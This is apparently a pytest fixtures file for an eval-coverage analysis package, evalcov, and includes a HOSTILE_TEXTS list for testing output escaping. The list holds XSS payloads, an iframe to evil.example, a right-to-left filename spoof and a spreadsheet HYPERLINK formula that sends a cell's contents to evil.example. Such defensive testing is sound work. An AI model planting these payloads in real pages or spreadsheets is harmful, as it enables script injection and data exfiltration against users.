"""Shared fixtures: the real default model, the shared real data sets, an isolated cache."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
SHARED_DATA = REPO.parent / "shared" / "data"


@pytest.fixture(scope="session", autouse=True)
def _isolated_cache(tmp_path_factory):
    """Every test, module fixtures included, embeds into this session's cache, never the user's."""
    before = os.environ.get("EVALCOV_CACHE_DIR")
    os.environ["EVALCOV_CACHE_DIR"] = str(tmp_path_factory.getbasetemp() / "cache")
    yield
    if before is None:
        os.environ.pop("EVALCOV_CACHE_DIR", None)
    else:
        os.environ["EVALCOV_CACHE_DIR"] = before


def run_python(code: str, *args: object, threads: int = 1, **env: str):
    """Run ``code`` in a fresh interpreter from the repo root with ``threads`` BLAS/OpenMP
    threads; returns the completed process (stdout, stderr as text)."""
    pools = ("OMP_NUM_THREADS", "MKL_NUM_THREADS", "OPENBLAS_NUM_THREADS")
    threads_env = {v: str(threads) for v in pools}
    return subprocess.run(
        [sys.executable, "-c", code, *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, **threads_env, **env},
        cwd=REPO,
        timeout=900,
    )


@pytest.fixture(scope="session")
def shared_data() -> Path:
    if not SHARED_DATA.is_dir():
        pytest.skip("../shared/data is not present")
    return SHARED_DATA


@pytest.fixture(scope="session")
def clinc(shared_data) -> dict:
    """CLINC150 as {split: [(text, intent), ...]}; skipped when absent."""
    path = shared_data / "clinc150" / "data_full.json"
    if not path.is_file():
        pytest.skip("clinc150 is not present")
    return json.loads(path.read_text())


@pytest.fixture(scope="session")
def sample_report():
    """Every 10th row of the sample log (3,000 queries, with outcomes) analyzed against the
    sample eval set: ``(traffic, report)``. Shared by the modules that check the sample's
    planted structure, as one analysis of this size is all they need."""
    import pandas as pd

    import evalcov

    traffic = pd.read_csv(REPO / "sample_data" / "traffic.csv.gz").iloc[::10]
    return traffic, evalcov.analyze(
        traffic,
        REPO / "sample_data" / "evals.csv",
        text="text",
        eval_text="prompt",
        show_progress=False,
    )


# Texts that run code if a page or a spreadsheet ever treats them as markup. Each sets a marker
# attribute on <html> when it executes, so a browser test can tell.
HOSTILE_TEXTS = [
    "<script>document.documentElement.setAttribute('data-pwned','script')</script>",
    "<img src=x onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
    "<a href=\"javascript:document.documentElement.setAttribute('data-pwned','href')\">x</a>",
    "</script><script>document.documentElement.setAttribute('data-pwned','json')</script>",
    "<svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\"></svg>",
    '<iframe src="http://evil.example/frame"></iframe>',
    "\u202egnp.exe card blocked",
    '=HYPERLINK("http://evil.example/?"&A1,"click") cancel my plan',
]


@pytest.fixture(scope="session")
def hostile_report(tmp_path_factory):
    """A real report whose traffic, eval prompts and cluster labels are hostile texts."""
    import pandas as pd

    import evalcov

    sample = REPO / "sample_data"
    traffic = pd.read_csv(sample / "traffic.csv.gz").iloc[::150].reset_index(drop=True)
    # Every third query carries a payload, so payloads are among every cluster's examples.
    for i in range(0, len(traffic), 3):
        payload = HOSTILE_TEXTS[(i // 3) % len(HOSTILE_TEXTS)]
        traffic.loc[i, "text"] = f"{payload} {traffic.loc[i, 'text']}"
    # Prompts of half the topics only, so the report has gaps whose examples reach the page.
    evals = pd.read_csv(sample / "evals.csv")
    kept = sorted(evals["topic"].unique())[::2]
    evals = evals.loc[evals["topic"].isin(kept), ["prompt"]].reset_index(drop=True)
    evals.loc[: len(HOSTILE_TEXTS) - 1, "prompt"] = [
        f"{p} {t}" for p, t in zip(HOSTILE_TEXTS, evals["prompt"], strict=False)
    ]

    def labeler(keywords: list[str], examples: list[str]) -> str:
        return HOSTILE_TEXTS[len(examples[0]) % len(HOSTILE_TEXTS)] + " " + ", ".join(keywords)

    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EVALCOV_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "cache"))
        return evalcov.analyze(
            traffic,
            evals,
            text="text",
            time="timestamp",
            eval_text="prompt",
            labeler=labeler,
            n_clusters=8,
            show_progress=False,
        )
